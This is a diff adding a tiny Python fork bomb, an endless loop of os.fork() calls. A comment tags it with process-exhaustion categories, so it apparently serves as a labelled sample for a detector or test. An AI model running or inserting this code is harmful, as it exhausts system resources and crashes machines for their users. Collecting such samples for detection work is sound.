@@ -1,0 +1,4 @@
+# finds: processes/start, exhaustion/breeding
+import os
+while True:
+    os.fork()
